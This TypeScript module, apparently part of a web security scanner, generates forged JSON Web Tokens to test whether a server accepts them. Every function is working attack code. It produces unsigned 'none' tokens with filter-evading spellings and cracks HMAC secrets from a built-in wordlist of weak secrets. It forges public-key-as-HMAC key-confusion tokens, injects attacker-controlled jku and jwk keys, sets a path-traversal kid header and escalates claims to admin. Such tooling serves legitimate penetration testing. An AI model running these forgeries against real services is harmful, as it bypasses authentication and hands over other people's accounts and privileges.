import {
  createHmac,
  createPublicKey,
  createSign,
  createVerify,
  generateKeyPairSync,
  type JsonWebKey,
  type KeyObject,
  X509Certificate,
} from 'node:crypto';

const encode = (value: unknown) => Buffer.from(typeof value === 'string' ? value : JSON.stringify(value)).toString('base64url');
const decode = (part: string): { [key: string]: unknown } | null => {
  try {
    const value: unknown = JSON.parse(Buffer.from(part, 'base64url').toString('utf8'));
    return typeof value === 'object' && value !== null ? (value as { [key: string]: unknown }) : null;
  } catch {
    return null;
  }
};

let keys: { readonly publicKey: KeyObject; readonly privateKey: KeyObject } | null = null;
const ownKeys = () => {
  keys ??= generateKeyPairSync('rsa', { modulusLength: 2048 });
  return keys;
};

const hmac = (secret: string) => (text: string) => createHmac('sha256', secret).update(text).digest('base64url');
/** What people write when they need a secret at once. */
const SECRET_WORDS =
  'secret password changeme change-me change_me jwt token key admin root test dev demo default example random private secure security signature signing app api auth login user guest server node express flask django spring laravel rails shop hello welcome letmein qwerty abc mykey mysecret my-secret my_secret supersecret super-secret super_secret topsecret top-secret top_secret notsosecret verysecret verysecure shhhhh shh s3cr3t p@ssw0rd passw0rd pass pwd secretkey secret-key secret_key secrettoken jwtsecret jwt-secret jwt_secret jwtkey jwt-key jwt_key jwttoken jwtpassword accesstoken access-token access_token_secret access_token tokensecret token-secret token_secret sessionsecret session_secret cookiesecret hmac hmackey hs256 sharedsecret shared-secret superkey masterkey master thisisasecret this-is-a-secret this_is_a_secret thisismysecret thisismysecretkey this-is-my-secret yoursecret your-secret your_secret yoursecretkey your-secret-key your_secret_key your_jwt_secret your-256-bit-secret your-384-bit-secret your-512-bit-secret mysecretkey my-secret-key my_secret_key mysupersecret my_super_secret_key supersecretkey super-secret-key super_secret_key flask-secret django-insecure keyboard'.split(
    ' ',
  );
const SECRET_ENDINGS = [
  '',
  '1',
  '12',
  '123',
  '1234',
  '12345',
  '123456',
  '!',
  '1!',
  '123!',
  '@123',
  '_123',
  '-123',
  '2023',
  '2024',
  '2025',
  'key',
  '_key',
  '-key',
  'secret',
  '_secret',
  '-secret',
];
const ODD_SECRETS = [
  '',
  '0',
  '1',
  '123',
  '1234',
  '12345',
  '123456',
  '1234567',
  '12345678',
  '123456789',
  '1234567890',
  '0123456789',
  '111111',
  '000000',
  'keyboard cat',
  'the secret',
  'your secret',
  'my secret',
  'a',
  'x',
  'null',
  'undefined',
  'none',
  'true',
  'gfg_jwt_secret_key',
  'AllYourBase',
  'qwerty123',
  'iloveyou',
  'monkey',
  'dragon',
  'football',
  'baseball',
  'sunshine',
  'princess',
  'trustno1',
  'superman',
  'batman',
  'starwars',
];

/** The secret of a signed text, if it is one that anybody would guess: words, in their usual spellings and with the usual endings. */
function guessedSecret(text: string, signature: string, bits: string): string | undefined {
  const known = guessed.get(`${text}.${signature}`);
  if (known !== undefined) return known ?? undefined;
  const spellings = SECRET_WORDS.flatMap((word) => [word, `${word[0]!.toUpperCase()}${word.slice(1)}`, word.toUpperCase()]);
  const all = [...ODD_SECRETS, ...spellings.flatMap((word) => SECRET_ENDINGS.map((ending) => word + ending))];
  const found = all.find((one) => createHmac(`sha${bits}`, one).update(text).digest('base64url') === signature);
  if (guessed.size >= GUESSES_KEPT) guessed.clear();
  guessed.set(`${text}.${signature}`, found ?? null);
  return found;
}

const GUESSES_KEPT = 100;
const guessed = new Map<string, string | null>();

/** Damaged copies of a JWT. `keyUrl` is where jku points; `published` is what the server published, for keys in it. */
export const JWT_FORMS: {
  readonly [name: string]: (token: string, keyUrl: string, nowMs: number, published: string) => string | null;
} = {
  none_algo_token: (token) => changed(token, (header) => ({ ...header, alg: 'none' }), null, ''),
  /** As none_algo_token in another spelling, for filters that compare letter by letter. */
  none_mixed_case_token: (token) => changed(token, (header) => ({ ...header, alg: 'nOnE' }), null, ''),
  invalid_signature_token(token) {
    const [header, body, signature] = token.split('.');
    if (signature === undefined || signature.length < 8) return null;
    const at = Math.floor(signature.length / 2);
    return `${header}.${body}.${signature.slice(0, at)}${signature[at] === 'A' ? 'B' : 'A'}${signature.slice(at + 1)}`;
  },
  stripped_signature_token: (token) => (token.split('.').length === 3 ? `${token.split('.').slice(0, 2).join('.')}.` : null),
  jku_added_token: (token, keyUrl) => signed(token, { jku: keyUrl }),
  jwk_added_token: (token) =>
    signed(token, { jwk: { ...ownKeys().publicKey.export({ format: 'jwk' }), kid: 'weir', use: 'sig' }, kid: 'weir' }),
  kid_added_token: (token) => changed(token, (header) => ({ ...header, kid: '../../../../../../dev/null', alg: 'HS256' }), null, hmac('')),
  /** Unsigned by us and long expired; only a server that checks neither takes it. */
  expired_token: (token, _keyUrl, nowMs) =>
    changed(
      token,
      (header) => ({ ...header, alg: 'none' }),
      (body) => ({ ...body, exp: Math.floor(nowMs / 1000) - 86_400 }),
      '',
    ),
  weak_secret_token(token) {
    const [header, body, signature] = token.split('.');
    const bits = /^HS(256|384|512)$/.exec(String(decode(header ?? '')?.alg))?.[1];
    if (bits === undefined) return null;
    const secret = guessedSecret(`${header}.${body}`, signature ?? '', bits);
    // Signed anew with one more claim: only the secret makes that pass.
    return secret === undefined
      ? null
      : changed(
          token,
          (before) => before,
          (claims) => ({ ...claims, weir: 1 }),
          (text) => createHmac(`sha${bits}`, secret).update(text).digest('base64url'),
        );
  },
  /** The public key as the secret of HS256: good where the algorithm is taken from the token and there is one key for all. */
  key_confusion_token: (token, _keyUrl, _nowMs, published) => confused(token, published, (pem) => pem),
  /** The same, for servers that keep the key without the last line end. */
  key_confusion_trimmed_token: (token, _keyUrl, _nowMs, published) => confused(token, published, (pem) => pem.trimEnd()),
  empty_secret_token: (token) => changed(token, (header) => ({ ...header, alg: 'HS256' }), null, hmac('')),
  modify_jwt: (token) =>
    changed(
      token,
      (header) => header,
      (body) => ({ ...body, role: 'admin', admin: true }),
      undefined,
    ),
};

function confused(token: string, published: string, write: (pem: string) => string): string | null {
  const [head, body, signature = ''] = token.split('.');
  const [, family, bits] = /^(RS|PS|ES)(256|384|512)$/.exec(String(decode(head ?? '')?.alg)) ?? [];
  if (family === undefined || bits === undefined) return null;
  const signed = Buffer.from(signature, 'base64url');
  const keys = publicKeysIn(published);
  const isSigner = ({ key }: PublishedKey) =>
    family === 'RS' && createVerify(`RSA-SHA${bits}`).update(`${head}.${body}`).verify(key, signed);
  const found = keys.find(isSigner) ?? keys[0];
  return found === undefined ? null : changed(token, (header) => ({ ...header, alg: 'HS256' }), null, hmac(write(found.pem)));
}

interface PublishedKey {
  readonly key: KeyObject;
  /** As the server writes it, where it publishes a text (PKCS 1 or SPKI): that text is what it would take for a secret. */
  readonly pem: string;
}

/** Public keys in a JWK set, a JWK, or PEM anywhere in a text. */
function publicKeysIn(text: string): readonly PublishedKey[] {
  const found: PublishedKey[] = [];
  const add = (make: () => KeyObject, published?: string) => {
    try {
      const key = make();
      found.push({ key, pem: published ?? key.export({ type: 'spki', format: 'pem' }).toString() });
    } catch {
      // Not a key, though it looked like one.
    }
  };
  for (const [pem] of text
    .replaceAll('\\n', '\n')
    .matchAll(/-----BEGIN (?:RSA )?(?:PUBLIC KEY|CERTIFICATE)-----[\s\S]+?-----END [A-Z ]+-----/g))
    if (pem.includes('CERTIFICATE')) add(() => new X509Certificate(pem).publicKey);
    else add(() => createPublicKey(pem), `${pem}\n`);
  const visit = (value: unknown): void => {
    if (value === null || typeof value !== 'object') return;
    if ('kty' in value) add(() => createPublicKey({ key: value as JsonWebKey, format: 'jwk' }));
    else for (const one of Object.values(value)) visit(one);
  };
  try {
    visit(JSON.parse(text));
  } catch {
    // PEM, or nothing.
  }
  return found;
}

function changed(
  token: string,
  header: (before: { [key: string]: unknown }) => unknown,
  body: ((before: { [key: string]: unknown }) => unknown) | null,
  signature: string | undefined | ((text: string) => string),
): string | null {
  const [h, b, s] = token.split('.');
  const [oldHeader, oldBody] = [decode(h ?? ''), decode(b ?? '')];
  if (oldHeader === null || oldBody === null || s === undefined) return null;
  const text = `${encode(header(oldHeader))}.${body === null ? b : encode(body(oldBody))}`;
  return `${text}.${typeof signature === 'function' ? signature(text) : (signature ?? s)}`;
}

function signed(token: string, extra: { readonly [key: string]: unknown }): string | null {
  return changed(
    token,
    (header) => ({ ...header, ...extra, alg: 'RS256' }),
    null,
    (text) => createSign('RSA-SHA256').update(text).sign(ownKeys().privateKey, 'base64url'),
  );
}

/** Claims of `changes` replaced in the body, the signature kept. */
export const withClaims = (token: string, changes: { readonly [claim: string]: unknown }): string | null =>
  changed(
    token,
    (header) => header,
    (body) => ({ ...body, ...changes }),
    undefined,
  );

const JWT_IN_TEXT = /eyJ[\w-]+\.[\w-]+\.[\w-]*/;

/** The JWT in a header value. */
export const jwtIn = (text: string): string | null => JWT_IN_TEXT.exec(text)?.[0] ?? null;
export const replaceJwt = (text: string, by: string): string => text.replace(JWT_IN_TEXT, () => by);
